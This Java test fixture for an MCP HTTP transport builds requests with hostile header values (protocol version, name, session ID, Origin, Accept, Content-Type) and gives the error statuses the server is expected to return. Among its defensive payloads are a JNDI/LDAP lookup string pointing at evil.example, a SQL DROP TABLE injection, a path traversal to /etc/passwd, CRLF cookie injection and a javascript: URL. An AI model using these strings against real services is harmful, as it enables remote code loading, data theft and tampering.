package dev.mooring.transport.http;

import java.util.List;
import java.util.stream.Stream;

/** Well-formed requests whose fields say hostile things. */
final class HostileFields {
    private static final Ask ECHO = Ask.call("echo", "{'message':'hi'}");
    private static final String PING = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}";

    private HostileFields() {}

    static Stream<Hostile> all() {
        return Stream.of(versions(), names(), sessions(), origins(), accepts(), others()).flatMap(s -> s);
    }

    private static Stream<Hostile> versions() {
        return Stream
                .of("", "2026-07-28, 2025-11-25", "2026-07-29", "9999-99-99", "2026-07-28\u00a0", "v".repeat(8000),
                        "../../2026-07-28", "\u00ff\u00fe", "null", "${jndi:ldap://evil.example/x}", "%0d%0aX: y")
                .map(v -> Hostile.ask("version " + brief(v), "400/-32020 404", ECHO.but("MCP-Protocol-Version", v)));
    }

    private static Stream<Hostile> names() {
        return Stream
                .of("=?base64??=", "=?base64?=", "=?base64?ZWNobw?=", "=?base64?ZWNobw=?=", "=?base64?ZWNobw===?=",
                        "=?base64?ZW NobW==?=", "=?base64?_-__?=", "=?base64?wIA=?=", "=?base64?7aCA?=",
                        "=?base64?ZWNobwA=?=", "=?base64?PT9iYXNlNjQ/ZWNobz89?=", "=?base64?ZWNobw==", "ZWNobw==?=",
                        "=?Base64?ZWNobw==?=", "=?utf-8?B?ZWNobw==?=", "=?base64?" + "QUJD".repeat(2000) + "?=", "",
                        "\u00e9cho", "echo, echo", "\"echo\"", "echo\u00a0")
                .map(name -> Hostile.ask("name " + brief(name), "400/-32020 404", ECHO.but("Mcp-Name", name)));
    }

    private static Stream<Hostile> sessions() {
        Stream<Hostile> unknown = Stream
                .of("", "x", "A".repeat(38), "-".repeat(38), "=".repeat(38), "\u00e9".repeat(38), "A".repeat(8000),
                        "A, B", "a b", "'; DROP TABLE sessions;--", "../../etc/passwd", "%0d%0aSet-Cookie: a=b", "null",
                        "__proto__", "*", "${jndi:ldap://evil.example/x}")
                .flatMap(id -> Stream.of(Hostile.ask("session " + brief(id), "404/-32600 404", Ask.legacy(id, PING)),
                        Hostile.ask("stream of session " + brief(id), "404/-32600 404", Ask.get(id))));
        return Stream.concat(unknown, Stream.of("a\rb", "a\0b", "a\nb", "\33[31m")
                .map(id -> Hostile.ask("session " + brief(id), "400", Ask.legacy(id, PING))));
    }

    private static Stream<Hostile> origins() {
        return Stream
                .of("null", "http://evil.example", "http://localhost.evil.example", "http://localhost\\@evil.example",
                        "javascript:alert(1)", "\u00e9", "http://" + "a".repeat(8000), "http://[::1", "://", "http://")
                .map(origin -> Hostile.ask("origin " + brief(origin), "403/-32600 404", ECHO.with("Origin", origin)));
    }

    private static Stream<Hostile> accepts() {
        return Stream.of(Hostile.ask("accept garbage", "406/-32600 404", ECHO.but("Accept", ";;;,,,===;q=;q")),
                Hostile.ask("accept 8 KB of commas", "406/-32600 404", ECHO.but("Accept", "x" + ",".repeat(8000))),
                Hostile.ask("accept 8 KB of parameters", "200 404",
                        ECHO.but("Accept", "application/json" + ";q=0.0000".repeat(800))),
                Hostile.ask("accept a weight of nonsense", "200 404", ECHO.but("Accept", "application/json;q=-7e9")),
                Hostile.ask("accept in Latin-1", "406/-32600 404", ECHO.but("Accept", "\u00ff/\u00ff")));
    }

    private static Stream<Hostile> others() {
        String many = "mcp-param-x,".repeat(1000);
        Ask page = Ask.of("OPTIONS").with("Origin", "http://localhost");
        return List.of(Hostile.ask("content type garbage", "415/-32600 404", ECHO.but("Content-Type", ";;;=")),
                Hostile.ask("a charset of nothing", "415/-32600 404",
                        ECHO.but("Content-Type", "application/json; charset=")),
                Hostile.ask("a bomb's encoding", "415/-32600 404", ECHO.with("Content-Encoding", "gzip, gzip, gzip")),
                Hostile.ask("a preflight for a thousand fields", "204 404",
                        page.with("Access-Control-Request-Headers", many)),
                Hostile.ask("a preflight for nonsense", "204 404",
                        page.with("Access-Control-Request-Headers", "mcp-param-\u00e9,mcp-param-\u0085,mcp-param-: x")),
                Hostile.ask("credentials of nonsense", "200 404",
                        ECHO.with("Authorization", "Bearer \u00ff".repeat(900))),
                Hostile.ask("an event id of nonsense", "405/-32600 404",
                        Ask.of("GET").with("Last-Event-ID", "\u00ff".repeat(5000)).with("Accept", "text/event-stream")))
                .stream();
    }

    private static String brief(String value) {
        String shown = value.length() > 40 ? value.substring(0, 40) + "…" : value;
        return "\"" + shown.replaceAll("\\p{Cntrl}", "?") + "\"";
    }
}
